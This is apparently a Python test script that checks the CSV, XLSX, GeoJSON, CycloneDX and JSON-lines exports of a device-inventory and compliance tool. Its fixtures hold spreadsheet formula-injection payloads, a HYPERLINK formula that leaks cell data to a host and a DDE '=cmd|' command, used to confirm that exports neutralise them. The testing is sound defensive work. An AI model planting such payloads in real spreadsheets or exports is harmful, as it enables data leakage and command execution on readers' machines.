#!/usr/bin/env python3
"""The report in its other forms: CSV, XLSX, JSON lines, GeoJSON, CycloneDX, and the schemas they keep. Writes TAP.

usage: export_test.py BIRTHMARK SAMPLE PROJECT

What stands in the schemas is looked at by ajv, where the modules of tests/page are in the folder PAGE_MODULES.
"""
import csv, datetime, io, json, os, pathlib, re, shutil, sqlite3, subprocess, sys, tempfile, zipfile
import xml.etree.ElementTree as xml

from tap import check, finish, skip

birthmark, sample, project = *map(os.path.abspath, sys.argv[1:3]), pathlib.Path(sys.argv[3])
LTS, HIK, AXIS, DELL = '14:2f:fd:31:07:a2', '28:57:be:4c:10:9d', 'ac:cc:8e:4d:00:27', 'f8:bc:12:4e:90:aa'
WHO, ON = ('--by', 'A. Jansen'), ('--on', '2026-11-22')
EVIL_TITLE, EVIL_SUPPLIER = '=HYPERLINK("http://x/?"&A1,"Noord")', "@SUM(1;2);=cmd|'/C calc'!A0"
EVIL_NAME, EVIL_OTHER = '=1+1;=2+2\t"]]><x>\x01\u202e', '\uff0dA1 caf\u00e9 \U0001f3a5'
FORMULA = re.compile(r'^[\s]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]')
SHEETS = ['devices', 'evidence', 'verdicts', 'contracts', 'decisions', 'method']
NS = {'m': 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'}
REL = '{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id'


def run(*arguments, folder):
    return subprocess.run([birthmark, *map(str, arguments)], capture_output=True, cwd=folder, timeout=100)


def report(folder, *arguments):
    done = run('report', *arguments, *ON, folder=folder)
    return done.stdout.decode() if done.returncode == 0 else f'{done.returncode}: {done.stderr.decode()}'


def make_estate(folder):
    subprocess.run([sample, project / 'data/samples/street.yaml', folder / 'street.pcap'], check=True)
    run('read', 'street.pcap', folder=folder)
    run('site', 'put', 'noord', '--title', EVIL_TITLE, '--network', '192.168.40.0/27', '--latitude', '52.37912', '--longitude', '-4.89957',
        *WHO, folder=folder)
    run('site', 'put', 'zuid', '--title', 'South', *WHO, folder=folder)
    run('site', 'put', 'leeg', '--title', 'Empty', '--latitude', '-0.001', '--longitude', '0', *WHO, folder=folder)
    run('contract', 'put', 'c-1', '--title', 'Cameras', '--supplier', EVIL_SUPPLIER, '--from', '2024-01-01', '--until', '2027-01-01',
        '--value', 'EUR 120000.50', *WHO, folder=folder)
    run('tell', LTS, '--contract', 'c-1', '--made-in', 'CN', '--acquired', '2021-03-04', *WHO, folder=folder)
    run('tell', DELL, '--site', 'zuid', *WHO, folder=folder)
    run('decide', 'waiver', HIK, '--law', 'us-ndaa2019-889b', *WHO, '--why', '-1 reason', '--from', '2026-01-01', '--until', '2199-01-01',
        folder=folder)
    # No capture gives a device such a name; a register may.
    estate = sqlite3.connect(folder / 'birthmark.db')
    estate.execute('UPDATE device SET name = ? WHERE name = ?', (EVIL_NAME, DELL))
    estate.execute('UPDATE device SET name = ? WHERE name = ?', (EVIL_OTHER, AXIS))
    estate.commit()
    estate.close()


def plain(name):
    """A name as a cell has it: steering characters as bytes, no formula."""
    for bad in '\t\x01\u202e':
        name = name.replace(bad, ''.join(f'\\x{byte:02x}' for byte in bad.encode()))
    name = name.replace(';=', ";'=")
    return "'" + name if FORMULA.match(name) else name


def worst_of(device):
    order = 'prohibited prohibited-new licence-required restricted undetermined clear not-in-force'.split()
    return min((v['status'] for v in device['verdicts']), key=order.index)


# CSV

def test_csv(folder, devices):
    raw = run('report', '--format', 'csv', *ON, folder=folder).stdout
    check(raw.startswith(b'\xef\xbb\xbf') and raw.count(b'\xef\xbb\xbf') == 1, 'CSV begins with the byte order mark')
    text = raw.decode('utf-8-sig')
    check(text.endswith('\r\n') and '\n' not in text.replace('\r\n', ''), 'its lines end with CR LF, and no cell breaks one')
    rows = list(csv.DictReader(io.StringIO(text, newline=''), strict=True))
    check(len(rows) == len(devices) and all(None not in row and None not in row.values() for row in rows), 'each device has one row of as many cells')
    by_name = {row['device']: row for row in rows}
    check(set(by_name) == {plain(d['device']) for d in devices}, 'names are theirs, made harmless', set(by_name))
    bad = [(c, v) for row in rows for c, v in row.items() if FORMULA.match(v) or re.search('[\x00-\x1f\x7f\u202e]', v)]
    check(not bad, 'no cell is a formula, or has a sign that steers', bad)
    same = [d['device'] for d in devices for row in [by_name[plain(d['device'])]]
            if (row['maker_id'] or None, row['maker_grade'], row['brand_id'] or None, row['class'], row['verdict']) !=
               (d['maker']['id'], d['maker']['grade'], d['brand']['id'], d['class'], worst_of(d))]
    check(not same, 'it says what the JSON lines say', same)
    lts = by_name[LTS]
    check((lts['maker'], lts['maker_country'], lts['brand'], lts['relabelled'], lts['site'], lts['contract'], lts['made_in'], lts['acquired']) ==
          ('Hangzhou Hikvision Digital Technology Co., Ltd.', 'CN', 'LTS', 'yes', 'noord', 'c-1', 'CN', '2021-03-04'), 'the relabelled camera', lts)
    check(lts['verdict'] == 'prohibited' and 'us-ndaa2019-889b' in lts['laws'].split(), 'the rules of its gravest verdict', lts['laws'])
    check(lts['first_seen'] == '2026-03-02 08:00:00' and re.fullmatch(r'0\.\d+', lts['maker_confidence']), 'times and numbers are plain', lts)
    page = (project / 'doc/man/birthmark-report.1').read_text()
    check([c for c in rows[0] if f'.It Cm {c}\n' not in page] == [], 'the manual names every column')
    return rows


# XLSX

def letters(cell):
    number = 0
    for letter in re.match('[A-Z]+', cell)[0]:
        number = number * 26 + ord(letter) - 64
    return number - 1


def open_book(path):
    """Sheets by name: (XML root, rows of (value, type, style))."""
    book = zipfile.ZipFile(path)
    links = {r.get('Id'): r.get('Target') for r in xml.fromstring(book.read('xl/_rels/workbook.xml.rels'))}
    sheets = {}
    for sheet in xml.fromstring(book.read('xl/workbook.xml')).find('m:sheets', NS):
        root = xml.fromstring(book.read('xl/' + links[sheet.get(REL)]))
        rows = []
        for row in root.find('m:sheetData', NS):
            rows.append({letters(c.get('r')): (''.join(t.text or '' for t in c.iter(f'{{{NS["m"]}}}t')) or
                                               getattr(c.find('m:v', NS), 'text', None), c.get('t'), c.get('s')) for c in row})
        sheets[sheet.get('name')] = (root, rows)
    return book, sheets


def table(rows):
    names = [rows[0][i][0] for i in sorted(rows[0])]
    return [{name: row.get(i, (None,))[0] for i, name in enumerate(names)} for row in rows[1:]]


def day_of(number):
    return str(datetime.date(1899, 12, 30) + datetime.timedelta(days=float(number)))


def check_book(book, sheets):
    check(book.testzip() is None and list(sheets) == SHEETS, 'the workbook has its sheets', list(sheets))
    names = book.namelist()
    check(not [n for n in names if 'vba' in n.lower() or 'external' in n.lower()], 'it has no macros and no links', names)
    check(not [n for n, (root, _) in sheets.items() if root.findall('.//m:f', NS)], 'it has no formula')
    panes = [root.find('.//m:pane', NS) for root, _ in sheets.values()]
    check(all(p is not None and p.get('state') == 'frozen' and p.get('ySplit') == '1' for p in panes), 'headers are frozen')
    check(all(root.find('m:autoFilter', NS) is not None and root.find('m:cols', NS) is not None for root, _ in sheets.values()),
          'every sheet has a filter and widths')
    bad = [v for _, rows in sheets.values() for row in rows for v, t, _ in row.values()
           if t == 'inlineStr' and (FORMULA.match(v) or re.search('[\x00-\x1f\x7f\u202e]', v))]
    check(not bad, 'no text is a formula, or has a sign that steers', bad)
    properties = book.read('docProps/core.xml').decode()
    check('Estate birthmark.db' in properties and 'birthmark' in properties, 'it says what it is', properties)


def is_date_style(book, style):
    styles = xml.fromstring(book.read('xl/styles.xml'))
    formats = {f.get('numFmtId'): f.get('formatCode') for f in styles.iter(f'{{{NS["m"]}}}numFmt')}
    return 'yyyy' in formats.get(styles.find('m:cellXfs', NS)[int(style)].get('numFmtId'), '')


def test_xlsx(folder, devices, csv_rows):
    done = run('report', '--format', 'xlsx', *ON, folder=folder)
    check(done.returncode == 0 and done.stdout == b'' and b'report.xlsx: 13 devices' in done.stderr, 'XLSX goes to report.xlsx', done.stderr)
    left = [p.name for p in folder.iterdir() if p.name not in ('report.xlsx', 'birthmark.db', 'street.pcap')]
    check(not left, 'nothing else is left behind', left)
    book, sheets = open_book(folder / 'report.xlsx')
    check_book(book, sheets)
    rows = table(sheets['devices'][1])
    texts = ['device', 'addresses', 'maker', 'brand', 'model', 'verdict', 'laws', 'contract', 'firmware']
    check([[r[t] or '' for t in texts] for r in rows] == [[r[t] for t in texts] for r in csv_rows], 'the devices are those of the CSV')
    lts = next(r for r in sheets['devices'][1][1:] if r[0][0] == LTS)
    names = [sheets['devices'][1][0][i][0] for i in sorted(sheets['devices'][1][0])]
    day, seen = lts[names.index('acquired')], lts[names.index('first_seen')]
    check(day[1] is None and day_of(day[0]) == '2021-03-04' and is_date_style(book, day[2]), 'a day is a date', day)
    check(seen[1] is None and abs(float(seen[0]) % 1 - 8 / 24) < 1e-6 and is_date_style(book, seen[2]), 'a time is one too', seen)
    evidence, verdicts = table(sheets['evidence'][1]), table(sheets['verdicts'][1])
    check(len(evidence) == sum(len(d['evidence']) for d in devices), 'each piece of evidence has a row', len(evidence))
    check({e['bearing'] for e in evidence} <= {'for', 'against', 'aside'} and any('street.pcap' in (e['file'] or '') for e in evidence), 'which says where it is from')
    wanted = {(plain(d['device']), v['law'], v['status']) for d in devices for v in d['verdicts'] if v['status'] not in ('clear', 'not-in-force')}
    got = {(v['device'], law, v['status']) for v in verdicts for law in v['law'].split()}
    check(got == wanted and all(v['because'] for v in verdicts), 'each verdict that asks for something has one, with its reasons', got ^ wanted)
    check(all(v['title'] for v in verdicts if v['status'] != 'undetermined') and len(verdicts) < len(wanted), 'those undetermined alike share one')
    contract = table(sheets['contracts'][1])
    check(len(contract) == 1 and (contract[0]['contract'], contract[0]['supplier'], float(contract[0]['value']), contract[0]['devices']) ==
          ('c-1', "'@SUM(1;2);'=cmd|'/C calc'!A0", 120000.5, '1') and day_of(contract[0]['until']) == '2027-01-01', 'the contract', contract)
    decision = table(sheets['decisions'][1])
    check(len(decision) == 1 and (decision[0]['kind'], decision[0]['who'], decision[0]['why'], decision[0]['devices']) ==
          ('waiver', 'A. Jansen', "'-1 reason", '1'), 'the decision', decision)
    about = {row['about'] for row in table(sheets['method'][1])}
    check({'judged as of', 'confirmed', 'prohibited', 'devices: maker', 'no legal advice'} <= about, 'the method says how to read them')


# GeoJSON

def is_feature_collection(d):
    """What RFC 7946 asks and this breaks, or None."""
    if d.get('type') != 'FeatureCollection' or not isinstance(d.get('features'), list) or 'crs' in d or {'coordinates', 'geometry', 'properties'} & set(d):
        return 'no feature collection'
    for f in d['features']:
        if f.get('type') != 'Feature' or not {'geometry', 'properties'} <= set(f) or {'features', 'coordinates'} & set(f):
            return f'no feature {f}'
        if not (f['properties'] is None or isinstance(f['properties'], dict)) or ('id' in f and not isinstance(f['id'], (str, int))):
            return f'properties {f}'
        g = f['geometry']
        if g is not None and (g.get('type') != 'Point' or len(g.get('coordinates', [])) != 2 or
                              not all(isinstance(c, (int, float)) for c in g['coordinates']) or
                              not -180 <= g['coordinates'][0] <= 180 or not -90 <= g['coordinates'][1] <= 90):
            return f'geometry {g}'
    return None


def test_geojson(folder, devices):
    done = run('report', '--format', 'geojson', *ON, folder=folder)
    d = json.loads(done.stdout)
    check(is_feature_collection(d) is None, 'GeoJSON is as RFC 7946 has it', is_feature_collection(d))
    sites = {f['properties']['site']: f for f in d['features']}
    check(set(sites) == {None, 'noord', 'zuid', 'leeg'} and len(d['features']) == 4, 'each site has one feature, and what is at none', list(sites))
    check(sites['noord']['geometry']['coordinates'] == [-4.9, 52.38], 'longitude first, two digits', sites['noord'])
    check(b'two' not in done.stderr and b'2 digits' in done.stderr and b'sensitive' in done.stderr, 'it says that digits were taken off', done.stderr)
    check(sites['zuid']['geometry'] is None and sites[None]['geometry'] is None, 'without coordinates there is no geometry')
    check('-0' not in json.dumps(sites['leeg']['geometry']).replace('-0.', ''), 'there is no -0', sites['leeg'])
    check(sum(f['properties']['devices'] for f in d['features']) == len(devices), 'all devices are counted once')
    p = sites['noord']['properties']
    check(p['title'] == EVIL_TITLE and p['verdicts']['prohibited'] == 6 and p['makers']['hikvision'] == 2 and
          p['devices'] == p['confirmed'] + p['likely'] + p['unresolved'], 'what is at a site', p)
    for precision, want in ((0, [-5, 52]), (4, [-4.8996, 52.3791]), (6, [-4.89957, 52.37912])):
        d = json.loads(report(folder, '--format', 'geojson', '--precision', precision))
        got = [f for f in d['features'] if f['properties']['site'] == 'noord'][0]['geometry']['coordinates']
        check(got == want, f'with {precision} digits', got)
    quiet = run('report', '--format', 'geojson', '--precision', '6', '--quiet', folder=folder)
    check(quiet.stderr == b'', 'all digits, and --quiet, need no word', quiet.stderr)
    d = json.loads(report(folder, '--format', 'geojson', '--each'))
    names = [f['properties']['device'] for f in d['features']]
    check(is_feature_collection(d) is None and sorted(names) == sorted(x['device'] for x in devices), 'with --each every device is a feature', names)
    lts = next(f for f in d['features'] if f['properties']['device'] == LTS)
    check(lts['geometry']['coordinates'] == [-4.9, 52.38] and lts['properties']['verdict'] == 'prohibited', 'at its site', lts)


# CycloneDX

def refs_of(node, key='bom-ref'):
    if isinstance(node, dict):
        for k, v in node.items():
            if k == key and isinstance(v, str):
                yield v
            yield from refs_of(v, key)
    elif isinstance(node, list):
        for v in node:
            yield from refs_of(v, key)


def test_cyclonedx(folder, devices):
    text = report(folder, '--format', 'cyclonedx')
    d = json.loads(text)
    check(text == report(folder, '--format', 'cyclonedx'), 'the same estate gives the same bytes')
    uuid = re.fullmatch(r'urn:uuid:[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}', d['serialNumber'])
    other = json.loads(run('report', '--format', 'cyclonedx', '--on', '2020-01-01', folder=folder).stdout)
    check(uuid and other['serialNumber'] != d['serialNumber'], 'its number is a UUID of what it says', d['serialNumber'])
    refs = list(refs_of(d))
    used = [r for c in d['declarations']['claims'] for r in [c['target'], *c['evidence'], *c['counterEvidence']]]
    used += [r for m in d['declarations']['attestations'][0]['map'] for r in [m['requirement'], *m.get('claims', []), *m.get('counterClaims', [])]]
    check(len(refs) == len(set(refs)) and set(used) <= set(refs), 'references are unique, and each leads somewhere', set(used) - set(refs))
    by_name = {next(p['value'] for p in c['properties'] if p['name'] == 'birthmark:device'): c for c in d['components']}
    check(set(by_name) == {x['device'] for x in devices}, 'each device is a component, under its own name', set(by_name))
    lts = by_name[LTS]
    check((lts['type'], lts['manufacturer']['name'], lts['supplier']['name'], lts['name'], lts['version']) ==
          ('device', 'Hangzhou Hikvision Digital Technology Co., Ltd.', 'LTS', 'CMIP1042-28', 'V5.4.5build 170124'), 'maker and label of the relabelled camera', lts)
    identity = {i['field']: i for i in lts['evidence']['identity']}
    check(identity['group']['confidence'] >= 0.99 and identity['group']['methods'] and identity['group']['concludedValue'] == lts['manufacturer']['name'],
          'with the evidence for it', identity.get('group'))
    check(all(('manufacturer' in by_name[x['device']]) == (x['maker']['grade'] in ('confirmed', 'likely')) for x in devices),
          'no maker is named who is not established')
    claims = {c['bom-ref']: c for c in d['declarations']['claims']}
    entries = {(e.get('claims') or e.get('counterClaims') or [''])[0]: e for e in d['declarations']['attestations'][0]['map']}
    number = lts['bom-ref'].removeprefix('device-')
    entry = entries[f'claim-{number}-us-ndaa2019-889b']
    check('counterClaims' in entry and entry['conformance']['score'] == 0 and entry['confidence']['score'] >= 0.99 and
          claims[entry['counterClaims'][0]]['reasoning'] and claims[entry['counterClaims'][0]]['evidence'], 's.889 has a counter-claim, with its evidence', entry)
    number = by_name[EVIL_OTHER]['bom-ref'].removeprefix('device-')
    entry = entries[f'claim-{number}-us-ndaa2019-889b']
    check('claims' in entry and claims[entry['claims'][0]]['predicate'].startswith('us-ndaa2019-889b does not cover this device'), 'a device that it does not cover has a claim', entry)
    wrong = [e for e in entries.values() if e.get('claims') and ('conformance' in e) == ('Not looked into' in claims[e['claims'][0]]['reasoning'])]
    check(not wrong and any('conformance' not in e for e in entries.values() if e.get('claims')), 'what was not looked into is given no number', wrong[:2])
    check('declarations' not in json.loads(report(folder, '--format', 'cyclonedx', '--law', 'nl-amsterdam-2024')), 'where s.889 was not asked nothing is declared')


# JSON lines and their schemas

def test_jsonl(folder, devices):
    lines = [json.loads(line) for line in report(folder, '--format', 'jsonl').splitlines()]
    check(len(lines) == len(devices) and all({k: full[k] for k in short} == short for short, full in zip(devices, lines)), 'JSON lines hold those of --json')
    check(all(line['seen'] and line['would_settle_it'] for line in lines), 'and all that was seen')
    lts = next(line for line in lines if line['device'] == LTS)
    check(lts['told']['contract']['id'] == 'c-1' and lts['told']['acquired'] == '2021-03-04', 'and what people know', lts['told'])


def fits(schema, path):
    """True, or what is wrong; None without the modules."""
    done = subprocess.run(['node', project / 'tests/validate.mjs', schema, path], capture_output=True, text=True, timeout=100)
    if done.returncode == 77:
        return None
    return done.returncode == 0 or done.stdout or f'ajv failed: {done.stderr}'


def broken(line):
    """Lines that are wrong in one thing each."""
    unknown = {**line['maker'], 'grade': 'unknown'}
    yield 'a key that is missing', {k: v for k, v in line.items() if k != 'verdicts'}
    yield 'a key that nobody knows', {**line, 'guilty': True}
    yield 'a grade that is none', {**line, 'maker': {**line['maker'], 'grade': 'certain'}}
    yield 'a maker who is named and unknown', {**line, 'maker': unknown}
    yield 'a confirmation without confidence', {**line, 'maker': {**line['maker'], 'confidence': 0.5}}
    yield 'a class that is none', {**line, 'class': 'toaster'}
    yield 'a verdict without a reason', {**line, 'verdicts': [{'law': 'x', 'status': 'prohibited', 'because': []}]}
    yield 'a day that is none', {**line, 'verdicts': [{'law': 'x', 'status': 'prohibited', 'by': '2026-13-01', 'because': ['y']}]}
    yield 'evidence that says nothing', {**line, 'evidence': [{**line['evidence'][0], 'says': {}}]}
    yield 'a MAC that is none', {**line, 'mac': 'xyz'}


def test_schemas(folder, devices):
    probe = folder / 'probe.json'
    probe.write_text('{}')
    if not shutil.which('node') or fits(project / 'doc/schemas/site.schema.json', probe) is None:
        skip('lines fit their schemas', 'node or the modules of tests/page are not here')
        return
    outputs = [
        ('device', ('read', '--json', '--no-estate', 'street.pcap')), ('device', ('judge', '--json', '--dry-run')), ('device', ('report', '--json')),
        ('device', ('explain', '--json', LTS)), ('device', ('report', '--format', 'jsonl')), ('listed-device', ('devices', '--json')),
        ('change', ('judge', '--json', '--changes', '2020-01-01', str(datetime.date.today()))), ('site', ('site', '--json')), ('contract', ('contract', '--json')),
        ('scan-plan', ('scan', '--json', '--dry-run', '--no-estate', '10.0.0.0/30')),
    ]
    for schema, arguments in outputs:
        path = folder / 'lines.jsonl'
        path.write_bytes(run(*arguments, folder=folder).stdout)
        good = fits(project / f'doc/schemas/{schema}.schema.json', path)
        check(good is True, f'{" ".join(arguments)} fits {schema}.schema.json', good)
    for what, line in broken(next(d for d in devices if d['device'] == LTS)):
        path = folder / 'wrong.jsonl'
        path.write_text(json.dumps(line) + '\n')
        bad = fits(project / 'doc/schemas/device.schema.json', path)
        check(isinstance(bad, str) and bad.startswith('1: '), f'device.schema.json refuses {what}', bad)
    path = folder / 'bom.json'
    path.write_text(report(folder, '--format', 'cyclonedx'))
    good = fits('cyclonedx', path)
    check(good is True, 'CycloneDX fits its published schema', good)
    path.write_text(path.read_text().replace('"type": "device"', '"type": "gadget"', 1))
    bad = fits('cyclonedx', path)
    check(isinstance(bad, str) and 'components' in bad, 'which refuses a wrong one', bad)


def test_command_line(folder):
    for arguments in (('--format', 'pdf'), ('--format', 'csv', '--json'), ('--precision', '3'), ('--each', '--summary'), ('--format', 'csv', '--each'), ('--format', 'csv', '--summary'), ('--document', 'council-annex', '--summary'),
                      ('--format', 'geojson', '--precision', '7'), ('--format', 'geojson', '--precision', 'x'), ('--format', 'xlsx', '--output', '-')):
        done = run('report', *arguments, folder=folder)
        check(done.returncode == 2 and done.stderr.startswith(b'birthmark report: '), f'report {" ".join(arguments)} is a wrong usage', done)
    done = run('report', '--format', 'xlsx', '--output', 'nowhere/x.xlsx', folder=folder)
    check(done.returncode == 73 and b'nowhere' in done.stderr, 'a folder that is not there', done)
    check(run('report', '--format', 'csv', '--output', 'x.csv', folder=folder).returncode == 0 and
          (folder / 'x.csv').read_bytes().startswith(b'\xef\xbb\xbfdevice,'), 'any form goes to a file')
    before = (folder / 'x.csv').read_bytes()
    done = subprocess.run(['sh', '-c', 'ulimit -f 1; trap "" XFSZ; exec "$@"', 'sh', birthmark, 'report', '--format', 'xlsx', '--output', 'x.csv'],
                          capture_output=True, cwd=folder, timeout=100)
    check(done.returncode in (73, 74) and (folder / 'x.csv').read_bytes() == before, 'what does not fit on the disk leaves all as it was', done)
    left = [p.name for p in folder.iterdir() if '.xlsx.' in p.name or '.csv.' in p.name]
    check(not left, 'and nothing behind', left)
    done = run('report', '--format', 'csv', '--fail-on', 'prohibited', folder=folder)
    check(done.returncode == 1, '--fail-on holds for every form', done.returncode)


with tempfile.TemporaryDirectory() as name:
    place = pathlib.Path(name)
    make_estate(place)
    known = [json.loads(line) for line in report(place, '--json').splitlines()]
    check(len(known) == 13, 'the street is in the estate', len(known))
    table_rows = test_csv(place, known)
    test_xlsx(place, known, table_rows)
    test_geojson(place, known)
    test_cyclonedx(place, known)
    test_jsonl(place, known)
    test_schemas(place, known)
    test_command_line(place)
finish()
